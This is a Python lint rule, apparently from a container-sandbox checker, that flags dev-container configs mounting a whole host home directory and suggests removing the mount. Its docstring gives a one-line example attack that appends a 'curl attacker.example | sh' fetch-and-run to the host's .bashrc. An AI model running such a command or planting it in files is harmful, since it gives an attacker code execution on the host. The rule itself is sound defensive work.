"""A home directory of the host is mounted into the container.

## What it is

A bind mount of a whole home directory: `${localEnv:HOME}`, `${localEnv:USERPROFILE}`, `~`,
`/home/you`, `/Users/you`, `/root`, or of `/home` itself.

## Why it is bad

A home holds the keys (`~/.ssh`, `~/.aws`, browser profiles, tokens of every command line tool),
and files that run on the host at your next login. One line, and the container is out:

    echo 'curl -s https://attacker.example/x | sh' >> /host-home/.bashrc

## What to do instead

Mount the one folder that is needed. For settings, let the tool copy them: dotfiles repositories
and the editor's settings sync need no mount. For history or caches, use a named volume.

## Under gVisor

No difference: what you mount is outside the sandbox.

## References

- https://containers.dev/implementors/json_reference/#general-properties
- https://code.visualstudio.com/docs/devcontainers/containers#_personalizing-with-dotfile-repositories
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import Remedy, Remove, RuleMeta, Severity
from sandboxd.rules._finding import at_value
from sandboxd.rules._mounts import host_mounts, within_workspace
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="home-mounted",
    summary="a home directory of the host is mounted",
    severity=Severity.ERROR,
    since="0.1.0",
    why="keys and tokens can be read, and a line in `.bashrc` runs on the host at the next login",
    needs=(Field("mounts"),),
)

_HOMES = ("~", "/home", "/Users", "/var/home", "/export/home", "c:/Users", "c:/users")


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for mount, path in host_mounts(subject, host):
        if path not in _HOMES or within_workspace(mount, path, subject):
            continue
        yield at_value(
            META,
            mount,
            f"`{mount.written}` mounts a whole home directory, with its keys and its login scripts",
            path,
            remedies=(
                Remedy(
                    "remove the mount",
                    safe=False,
                    changes=(Remove(mount),),
                    caution=f"`{mount.value.target}` is empty inside the container",
                ),
            ),
        )
